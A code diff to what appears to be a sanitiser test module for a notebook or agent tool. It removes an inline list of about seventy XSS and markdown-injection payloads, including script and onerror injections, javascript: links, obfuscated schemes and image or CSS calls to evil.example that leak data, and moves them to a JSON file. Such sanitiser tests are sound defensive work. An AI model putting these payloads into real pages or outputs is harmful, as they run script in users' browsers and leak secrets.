@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import html
+import json
 import re
 from html.parser import HTMLParser
 from typing import Any
@@ -17,82 +18,9 @@ from agent_magic.messages import ToolCall
 from agent_magic.notebook.bundle import mimebundle
 from agent_magic.notebook.outputs import output_bundles, safe_bundle
 
-from .record_script import Script, checked
+from .record_script import SCHEMAS, Script, checked
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "</script><script src=https://evil.example/x.js></script>",
-    "<img src=x onerror=alert(1)>",
-    '"><img src=x onerror=alert(1)>',
-    "' onmouseover='alert(1)",
-    "<svg/onload=alert(1)>",
-    "<svg><script href=data:,alert(1) /></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<a href=javascript:alert(1)>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&#115;cript:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](\x01javascript:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](vbscript:msgbox(1))",
-    "[x](file:///etc/passwd)",
-    "[x](//evil.example/x)",
-    "[x](command:workbench.action.quit)",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "[x][y]\n\n[y]: <javascript:alert(1)> 'title'",
-    "<javascript:alert(1)>",
-    '<https://ok.example/"onmouseover=alert(1)>',
-    '[x](https://ok.example/"onmouseover="alert(1))',
-    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
-    "![x](https://evil.example/leak.png?secret)",
-    "![x][y]\n\n[y]: https://evil.example/leak.png",
-    "!\\[x](https://evil.example/leak.png)",
-    "\\![x](https://evil.example/leak.png)",
-    "&#33;[x](https://evil.example/leak.png)",
-    "[![x](https://evil.example/leak.png)](https://evil.example)",
-    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    "</details></div></pre></code><script>alert(1)</script>",
-    "<!-- <script>alert(1)</script>",
-    "--><script>alert(1)</script>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<scr<script>ipt>alert(1)</script>",
-    "<img/src=`x`onerror=alert(1)",
-    "<style>@import 'https://evil.example/x.css'</style>",
-    "<form action=https://evil.example><button>ok</button></form>",
-    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\u003cscript\u003ealert(1)\u003c/script\u003e",
-    "＜script＞alert(1)＜/script＞",
-    "\u202etpircs<\u202c \u2066<b>\u2069",
-    "<b\x00>x</b\x00><s\x00cript>alert(1)</script>",
-    "```\n<script>alert(1)</script>\n",
-    "```\n````\n</code></pre><script>alert(1)</script>\n```\n<script>alert(2)</script>",
-    "~~~\n```\n~~~\n<script>alert(1)</script>",
-    "`<script>` ``</code><script>alert(1)</script>``",
-    "`unclosed <script>alert(1)</script>",
-    "```<script>alert(1)</script>\nx\n```",
-    "    <script>alert(1)</script>",
-    "> <script>\n> alert(1)\n> </script>",
-    "- <script>alert(1)</script>\n  - </details>",
-    "| a | b |\n|---|---|\n| <script>alert(1)</script> | </table> |",
-    "# <script>alert(1)</script>",
-    "<details open ontoggle=alert(1)>",
-    "$\\href{javascript:alert(1)}{x}$",
-    "$$\\href{javascript:alert(1)}{x}$$",
-    "\\(\\href{javascript:alert(1)}{x}\\)",
-    "$</span><script>alert(1)</script>$",
-    "$$\n<script>alert(1)</script>\n$$",
-    "\\begin{equation}<img src=x onerror=alert(1)>\\end{equation}",
-    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07 \x1b[31m<b>red</b>",
-    "<button data-commandlinker-command='notebook:run-all-cells'>x</button>",
-    "<a id=jp-main name=x class=jp-mod-danger>x</a>",
-    "<\u017fcript>alert(1)</\u017fcript>",
-    "[a](https://a.example/`)<script>alert(1)</script>`",
-    "a\u2028<script>alert(1)</script>\u2029",
-]
+ATTACKS = json.loads((SCHEMAS.parent / "tests" / "attacks.json").read_text(encoding="utf-8"))
 
 ATTRIBUTES = {
     "a": {"href", "target", "rel"},
